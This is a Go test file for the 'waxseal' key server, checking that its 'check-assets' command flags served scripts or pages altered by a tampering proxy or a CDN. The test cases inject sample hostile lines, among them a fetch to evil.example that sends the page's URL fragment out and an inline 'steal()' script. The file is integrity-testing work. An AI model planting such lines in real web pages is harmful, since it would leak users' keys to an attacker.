package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"path/filepath"
	"strings"
	"testing"

	"github.com/andybalholm/brotli"

	"github.com/waxseal/waxseal/assets"
	"github.com/waxseal/waxseal/keyserver"
	"github.com/waxseal/waxseal/keyserver/boltstore"
	"github.com/waxseal/waxseal/keyserver/httpapi"
)

// startRealKeyServer is a key server as `waxseal keyserver` runs it (its handler
// over HTTP, bbolt underneath).
func startRealKeyServer(t *testing.T) *httptest.Server {
	t.Helper()
	st, err := boltstore.Open(filepath.Join(t.TempDir(), "waxseal.db"), boltstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	var master [32]byte
	copy(master[:], "master key for tests only 012345")
	svc, err := keyserver.New(keyserver.Config{PublicURL: "http://localhost:8080", MasterKey: master,
		OrgDomains: []string{"hospital.example"}, Logger: slog.New(slog.DiscardHandler)}, st)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(httpapi.New(svc))
	t.Cleanup(srv.Close)
	return srv
}

// tampering puts a proxy in front of the key server that changes what it
// serves.
func tampering(t *testing.T, target string, change func(path string, body []byte) []byte) *httptest.Server {
	t.Helper()
	u, _ := url.Parse(target)
	rp := httputil.NewSingleHostReverseProxy(u)
	rp.ModifyResponse = func(r *http.Response) error {
		if r.Header.Get("Content-Encoding") != "" {
			return nil // changed in the identity form only: enough to be seen
		}
		b, err := io.ReadAll(r.Body)
		if err != nil {
			return err
		}
		b = change(r.Request.URL.Path, b)
		r.Body = io.NopCloser(bytes.NewReader(b))
		r.ContentLength = int64(len(b))
		r.Header.Del("Content-Length")
		return nil
	}
	srv := httptest.NewServer(rp)
	t.Cleanup(srv.Close)
	return srv
}

func TestCheckAssets(t *testing.T) {
	ks := startRealKeyServer(t)
	var out, errOut bytes.Buffer
	if code := run(context.Background(), []string{"admin", "check-assets", ks.URL}, nil, &out, &errOut); code != 0 {
		t.Fatalf("an unchanged key server: exit %d\n%s%s", code, out.String(), errOut.String())
	}
	set, err := assets.Load()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"app.js", "console.js", "style.css"} {
		if !strings.Contains(out.String(), "ok       "+name+" (identity): "+set.Get(name).URL) {
			t.Errorf("no ok line for %s:\n%s", name, out.String())
		}
	}
	if strings.Contains(out.String(), "MISMATCH") {
		t.Errorf("mismatch on an unchanged key server:\n%s", out.String())
	}

	app := set.Get("app.js")
	for _, c := range []struct {
		name   string
		change func(string, []byte) []byte
		want   string
	}{
		{"a changed script", func(p string, b []byte) []byte {
			if p == app.URL {
				return append(b, "\nfetch('https://evil.example/?k='+location.hash);\n"...)
			}
			return b
		}, "MISMATCH app.js (identity): " + app.URL + ": served sha256"},
		{"a page loading another script", func(p string, b []byte) []byte {
			if strings.HasPrefix(p, "/open/") {
				return bytes.Replace(b, []byte("</head>"), []byte(`<script src="/static/extra.js"></script></head>`), 1)
			}
			return b
		}, "MISMATCH page /open/00000000000000000000000000000000 loads /static/extra.js, which this binary does not serve"},
		{"an inline script", func(p string, b []byte) []byte {
			if p == "/" {
				return bytes.Replace(b, []byte("</head>"), []byte(`<script>steal()</script></head>`), 1)
			}
			return b
		}, "MISMATCH page /: an inline script"},
	} {
		t.Run(c.name, func(t *testing.T) {
			evil := tampering(t, ks.URL, c.change)
			var out, errOut bytes.Buffer
			code := run(context.Background(), []string{"admin", "check-assets", evil.URL}, nil, &out, &errOut)
			if code != 1 || !strings.Contains(out.String(), c.want) || !strings.Contains(errOut.String(), "differ from this binary's") {
				t.Fatalf("exit %d, want 1 and %q:\n%s%s", code, c.want, out.String(), errOut.String())
			}
		})
	}
}

func TestVersion(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run(context.Background(), []string{"version"}, nil, &out, &errOut); code != 0 {
		t.Fatalf("exit %d: %s", code, errOut.String())
	}
	lines := strings.Split(out.String(), "\n")
	if !strings.HasPrefix(lines[0], "waxseal ") || !strings.HasPrefix(lines[1], "revision ") || !strings.HasPrefix(lines[3], "decryptor ") {
		t.Fatalf("version printed:\n%s", out.String())
	}
	set, _ := assets.Load()
	if a := set.Get("waxseal.wasm"); a != nil && !strings.Contains(lines[3], sha256hex(a.Raw())) {
		t.Errorf("the decryptor's hash is not its SHA-256:\n%s", out.String())
	}
}

func sha256hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// A CDN in front of the key server (a Worker's static assets) compresses with
// its own brotli encoder, whatever the key server would send: check-assets
// compares what it decodes, so another encoding of the same file passes and a
// changed file does not. app.js stands for every file (the key server itself
// has brotli only for the decryptor, which go test may run without).
func TestCheckAssetsDecodesBrotli(t *testing.T) {
	set, err := assets.Load()
	if err != nil {
		t.Fatal(err)
	}
	app := set.Get("app.js")
	ks := startRealKeyServer(t)
	u, _ := url.Parse(ks.URL)
	cdn := func(t *testing.T, raw []byte) *httptest.Server {
		rp := httputil.NewSingleHostReverseProxy(u)
		rp.ModifyResponse = func(r *http.Response) error {
			if r.Request.URL.Path != app.URL || r.Request.Header.Get("Accept-Encoding") != "br" {
				return nil
			}
			r.Body.Close()
			var b bytes.Buffer
			w := brotli.NewWriterLevel(&b, 4)
			w.Write(raw)
			w.Close()
			r.Body = io.NopCloser(&b)
			r.ContentLength = int64(b.Len())
			r.Header.Del("Content-Length")
			r.Header.Set("Content-Encoding", "br")
			return nil
		}
		srv := httptest.NewServer(rp)
		t.Cleanup(srv.Close)
		return srv
	}

	var out, errOut bytes.Buffer
	if code := run(context.Background(), []string{"admin", "check-assets", cdn(t, app.Raw()).URL}, nil, &out, &errOut); code != 0 {
		t.Fatalf("app.js compressed by a CDN: exit %d\n%s%s", code, out.String(), errOut.String())
	}
	if want := "ok       app.js (br): " + app.URL + " sha256 " + sha256hex(app.Raw()); !strings.Contains(out.String(), want) {
		t.Errorf("no %q line:\n%s", want, out.String())
	}

	out.Reset()
	changed := append(bytes.Clone(app.Raw()), "\nfetch('https://evil.example/');\n"...)
	code := run(context.Background(), []string{"admin", "check-assets", cdn(t, changed).URL}, nil, &out, &errOut)
	if want := "MISMATCH app.js (br): " + app.URL + ": served sha256 " + sha256hex(changed); code != 1 || !strings.Contains(out.String(), want) {
		t.Fatalf("a changed app.js, brotli: exit %d, want 1 and %q:\n%s", code, want, out.String())
	}
}
